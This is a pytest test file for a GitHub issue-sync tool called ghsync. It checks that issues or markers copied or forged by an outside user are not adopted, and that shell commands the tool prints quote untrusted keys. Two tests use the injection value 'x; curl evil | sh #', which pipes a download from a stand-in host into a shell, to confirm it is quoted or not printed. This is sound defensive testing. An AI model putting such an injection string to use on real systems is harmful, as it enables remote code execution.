"""Markers that strangers write: in issues of their own, in old ones, in copies, in examples."""

from __future__ import annotations

import asyncio
import shlex
from dataclasses import replace
from typing import Any

import pytest
from cli.cli_kit import EPIC, REPO, Cli, Served

from ghsync.clock import VirtualClock
from ghsync.details import fate_of
from ghsync.journal import Intent
from ghsync.model import Issue, IssueId, IssueNumber, Key, State, Uid
from ghsync.reconcile import Accounts, Reconciler, originals
from ghsync.remote.errors import BadAnswer
from ghsync.remote.parse import parse_issue
from ghsync.render import marker, parse_marker, split, with_marker
from ghsync.sandbox.people import Person

NOW = 1_790_000_000.0
UID = Uid("f" * 32)
TASK = Key(f"{EPIC}/001")


def stranger(github: Served) -> Person:
    """Somebody who may open issues, and nothing else."""
    Person(github.github, REPO, login="octo", now=NOW)
    return Person(github.github, REPO, login="mallory", now=NOW)


def titles(github: Served) -> dict[int, str]:
    """The issues that are there."""
    repo = Person(github.github, REPO, login="octo", now=NOW).repo
    return {each.number: each.title for each in repo.issues.values() if each.here}


def test_a_strangers_marker_takes_no_item(cli: Cli, github: Served) -> None:
    """Opened before the item was pushed, with its key: neither adopted nor made beside it."""
    cli.shop(1)
    forged = stranger(github).open_issue("Mine", body=with_marker("x", UID, TASK), now=NOW)
    document = cli.json("push")
    assert f"#{forged.number}" not in str(document["operations"])
    (finding,) = [each for each in document["findings"] if each["code"] == "marker_of_stranger"]
    assert "mallory" in finding["message"]
    assert "map adopt" in finding["message"]
    assert sorted(titles(github).values()) == ["Mine", "Shop"]
    assert cli("map", "adopt", TASK, forged.number, "--any-title").code == 0  # a person's word


def test_a_strangers_old_issue_does_not_become_the_item_when_the_map_is_lost(
    cli: Cli, github: Served
) -> None:
    """They copy the marker into an issue of theirs that is older, so its number is lower."""
    mallory = stranger(github)
    old = mallory.open_issue("Old", body="x", now=NOW)
    cli.shop(1)
    assert cli("push").code == 0
    task = next(n for n, title in titles(github).items() if title == "Task 1")
    body = mallory.repo.issues[task].body or ""
    mallory.edit(old.number, body=body, now=NOW)
    assert cli("map", "rebuild").code == 0
    numbers = {each["key"]: each["number"] for each in cli.json("map", "show")["items"]}
    assert numbers[TASK] == task
    assert cli.json("push")["operations"] == []


def test_a_strangers_marker_for_nothing_of_ours_stops_no_strict_push(
    cli: Cli, github: Served
) -> None:
    """A copy of a marker whose item has its issue is a stranger's text, and no warning."""
    cli.shop(1)
    assert cli("push").code == 0
    mallory = stranger(github)
    repo = mallory.repo
    for issue in list(repo.issues.values()):
        mallory.open_issue(f"Copy of {issue.title}", body=issue.body or "", now=NOW)
    assert cli("push", "--strict").code == 0


def test_a_rebuild_leaves_a_strangers_marker_out_and_says_so(cli: Cli, github: Served) -> None:
    """The only marker of a key is a stranger's: a notice, and nothing in the map."""
    cli.shop(1)
    stranger(github).open_issue("Mine", body=with_marker("x", UID, TASK), now=NOW)
    result = cli("map", "rebuild")
    assert "a stranger to the repository" in result.err
    assert cli.json("map", "show")["items"] == []
    assert cli("map", "rebuild", "--any-author").code == 0  # a person's word
    assert [each["key"] for each in cli.json("map", "show")["items"]] == [TASK]


def test_whose_token_it_is_is_no_stranger(
    cli: Cli, github: Served, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A server may count nobody among a repository's own; what we made comes back all the same."""
    cli.shop(1)
    assert cli("push").code == 0
    (cli.root / ".ghsync/map.json").unlink()
    (cli.root / ".ghsync/journal.jsonl").unlink(missing_ok=True)
    monkeypatch.setattr("ghsync.sandbox.present.View._association", lambda *_: "NONE")
    assert cli("map", "rebuild").code == 0
    assert len(cli.json("map", "show")["items"]) == 2
    assert cli.json("push")["operations"] == []


@pytest.mark.parametrize(
    ("association", "kind", "found"),
    [
        ("OWNER", "User", None),
        ("MEMBER", "User", None),
        ("COLLABORATOR", "User", None),
        ("MANNEQUIN", "User", None),
        ("NONE", "Bot", None),
        (None, "User", None),
        ("NONE", "User", "mallory"),
        ("CONTRIBUTOR", "User", "mallory"),
        ("FIRST_TIME_CONTRIBUTOR", "User", "mallory"),
        ("WHATEVER COMES", "User", "mallory"),
    ],
)
def test_who_is_a_stranger(association: str | None, kind: str, found: str | None) -> None:
    """By GitHub's word; apps were let in by the repository's owner; without a word nobody is."""
    data = {
        "number": 1,
        "id": 1,
        "title": "x",
        "state": "open",
        "body": marker(UID, TASK),
        "user": {"login": "mallory", "type": kind},
        "author_association": association,
    }
    issue = parse_issue(data)
    assert issue is not None
    assert issue.stranger == found


def marked(number: int, stranger: str | None = None) -> Issue:
    """An issue with the marker of the lost create."""
    return Issue(
        number=IssueNumber(number),
        id=IssueId(number),
        title="x",
        body="",
        state=State.OPEN,
        uid=UID,
        marker_key=TASK,
        stranger=stranger,
    )


LOST = Intent(key=TASK, uid=UID, floor=IssueNumber(10), at=NOW)


def test_a_lost_create_is_found_by_the_lowest_number_above_its_floor() -> None:
    """A copy is younger, and an old issue that somebody edits is below the floor."""
    found = originals([LOST], [marked(30), marked(5), marked(11), marked(20)])
    assert found[UID].number == 11
    assert originals([LOST], [marked(5), marked(10)]) == {}


def test_a_strangers_issue_is_a_lost_create_only_where_nobody_elses_is() -> None:
    """Theirs was opened between floor and create, and got our marker's line by an edit."""
    found = originals([LOST], [marked(11, "mallory"), marked(12), marked(13)])
    assert found[UID].number == 12
    assert originals([LOST], [marked(12, "us"), marked(11, "us")])[UID].number == 11


def test_a_comments_marker_in_an_issue_makes_it_nobodys() -> None:
    """A closing comment of unclear outcome is public; a stranger opens an issue with its line."""
    comment = replace(LOST, floor=IssueNumber(11), what="comment")
    assert originals([comment], [marked(50, "mallory"), marked(51)]) == {}


@pytest.mark.parametrize("listed", [(), (11,), (11, 13)])
@pytest.mark.parametrize("direct", [(11,), (11, 13)])
def test_the_reconciler_takes_a_strangers_issue_last(
    monkeypatch: pytest.MonkeyPatch, direct: tuple[int, ...], listed: tuple[int, ...]
) -> None:
    """By number and by list; #11 is a stranger's, and #13 is ours as soon as one shows it."""

    def shown(number: int) -> Issue:
        return marked(number, "mallory" if number == 11 else None)

    async def look_at(_client: object, _repo: object, number: int) -> tuple[bool, Issue | None]:
        return number in direct, shown(number) if number in direct else None

    async def by_list(_self: Reconciler, _intent: Intent) -> Issue | None:
        return shown(listed[-1]) if listed else None

    monkeypatch.setattr("ghsync.reconcile.look_at", look_at)
    monkeypatch.setattr(Reconciler, "_by_list", by_list)
    unused: Any = None
    clock = VirtualClock(NOW)
    accounts = Accounts(highest=IssueNumber(10))
    reconciler = Reconciler(
        unused, unused, clock, accounts, settle=5.0, notice=lambda _notice: None
    )
    found = asyncio.run(reconciler.settle(LOST))
    assert found is not None
    assert found.number == (13 if 13 in direct + listed else 11)


def test_a_rebuild_does_not_take_back_what_was_let_go_of(cli: Cli, github: Served) -> None:
    """`map forget` is a person's word; a marker on GitHub is none."""
    cli.shop(1)
    assert cli("push").code == 0
    task = next(n for n, title in titles(github).items() if title == "Task 1")
    assert cli("map", "forget", TASK).code == 0
    assert cli("map", "rebuild").code == 0
    assert TASK not in {each["key"] for each in cli.json("map", "show")["items"]}
    assert cli("map", "adopt", TASK, task).code == 0


def test_a_rebuild_names_the_issue_that_the_item_has(cli: Cli, github: Served) -> None:
    """An older issue has got the same marker; the map's own is the one that is taken."""
    octo = Person(github.github, REPO, login="octo", now=NOW)
    old = octo.open_issue("Old", body="x", now=NOW)
    cli.shop(1)
    assert cli("push").code == 0
    task = next(n for n, title in titles(github).items() if title == "Task 1")
    octo.edit(old.number, body=octo.repo.issues[task].body or "", now=NOW)
    said = cli("map", "rebuild").err
    assert f"#{task} is taken" in said
    assert f"#{task} and #{old.number} carry the same marker" in said


def test_a_rebuild_prints_no_command_with_a_strangers_key(cli: Cli, github: Served) -> None:
    """Whoever copies the command would run theirs; an item's own key is quoted."""
    cli.shop(1)
    mallory = stranger(github)
    mallory.open_issue("Mine", body=with_marker("x", UID, Key("x; curl evil | sh #")), now=NOW)
    said = cli("map", "rebuild").err
    assert "a stranger to the repository" in said
    assert "map adopt" not in said


def test_a_key_in_a_command_is_one_word() -> None:
    """Keys of Backlog.md hold blanks, and a marker's key is anybody's text."""
    for key in ("backlog/tasks/task-1 - Fix login", "x; curl evil | sh #"):
        said = fate_of(Key(key), IssueNumber(1), None, REPO)[1]
        words = shlex.split(said.split("`")[1])
        assert words == ["ghsync", "map", "forget", key]
    assert f"map forget {TASK}`" in fate_of(TASK, IssueNumber(1), None, REPO)[1]


def test_a_server_that_does_not_say_who_we_are_ends_no_rebuild(
    cli: Cli, github: Served, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It answers with something else than a user: then every stranger is one."""
    cli.shop(1)
    stranger(github).open_issue("Mine", body=with_marker("x", UID, TASK), now=NOW)

    def broken(*_: object, **__: object) -> str:
        raise BadAnswer(message="it has no login")

    monkeypatch.setattr("ghsync.remote.wire.parse_login", broken)
    result = cli("map", "rebuild")
    assert result.code == 0
    assert "a stranger to the repository" in result.err


@pytest.mark.parametrize(
    "text",
    [
        "```\n{}\n```",
        "~~~html\n{}\n~~~",
        "see `{}` there",
        "````\n```\n{}\n```\n````",
        "```\nunclosed\n{}",
    ],
)
def test_a_marker_in_code_is_an_example(text: str) -> None:
    """Somebody shows how it looks; the text keeps it, and it names nobody."""
    shown = text.replace("{}", marker(UID, TASK))
    assert parse_marker(shown) is None
    assert split(shown).body == shown
    ours = with_marker(shown, Uid("a" * 32), TASK)
    assert split(ours).marker is not None
    assert split(ours).body == shown


def test_a_marker_outside_code_is_found_wherever_it_was_moved() -> None:
    """After a block of code, in the middle, at the end."""
    for text in ("```\nx\n```\n{}", "a {} b", "a\n\n{}", "~~~\n```\n~~~\n{}\n"):
        found = parse_marker(text.replace("{}", marker(UID, TASK)))
        assert found is not None
        assert found.uid == UID
